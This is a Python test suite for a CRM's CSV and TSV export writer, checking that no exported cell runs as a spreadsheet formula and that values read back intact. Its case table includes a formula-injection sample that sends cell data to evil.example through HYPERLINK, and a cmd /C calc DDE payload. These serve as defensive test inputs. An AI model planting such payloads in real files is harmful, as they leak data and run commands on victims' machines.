"""The one writer of CSV and TSV exports: no cell a spreadsheet opens is run as a formula, and nothing is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm.platform import spreadsheets

EVALUATED = ("=", "+", "-", "@", "\t", "\r")
# Text as people type it, and text built to start like a formula: both must come out safe.
cells = st.one_of(
    st.text(max_size=30),
    st.builds(lambda start, rest: start + rest, st.sampled_from([*EVALUATED, "\n", " =", "'", '"=', "-1", "+91"]),
              st.text(max_size=20)),
    st.integers(-10**6, 10**6), st.floats(allow_nan=False, allow_infinity=False), st.none(),
)


def evaluated(text: str) -> bool:
    """Would a spreadsheet treat this cell as a formula (a plain negative number is just a number)?"""
    return text.startswith(EVALUATED) and not spreadsheets.NEGATIVE_NUMBER.fullmatch(text)


def read_back(rows, tabs: bool) -> list[list[str]]:
    out = io.StringIO()
    spreadsheets.writer(out, tabs=tabs).writerows(rows)
    if tabs:
        return [line.split("\t") for line in out.getvalue().split("\n")[:-1]]
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=6), min_size=1, max_size=8), st.booleans())
def test_no_written_cell_is_evaluated_and_each_reads_back_as_written(rows, tabs):
    written = read_back(rows, tabs)
    assert [len(r) for r in written] == [len(r) for r in rows]  # no cell split, merged or lost
    for values, cells_read in zip(rows, written, strict=True):
        for value, text in zip(values, cells_read, strict=True):
            assert not evaluated(text)
            expected = "" if value is None else str(value)
            if tabs:
                expected = expected.replace("\t", " ").replace("\r", " ").replace("\n", " ")
            assert text in (expected, "'" + expected)  # at most the apostrophe is added


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-5", "-5"), (-5, "-5"), ("-0.25", "-0.25"), (12, "12"), ("3.5", "3.5"),
    ("+919810011111", "'+919810011111"),  # a phone number shows as typed, not as 9.2E+11
    ("--5", "'--5"), ("-1e3", "'-1e3"), ("Asha Devi", "Asha Devi"), (None, ""), ("", ""),
])
def test_the_rule_cell_by_cell(value, written):
    assert spreadsheets.cell(value) == written


def test_a_tsv_cell_keeps_to_its_line_and_column():
    out = io.StringIO()
    spreadsheets.writer(out, tabs=True).writerow(['say "hi"\tthen', "=1\n+2", "P1"])
    assert out.getvalue() == "say \"hi\" then\t'=1 +2\tP1\n"
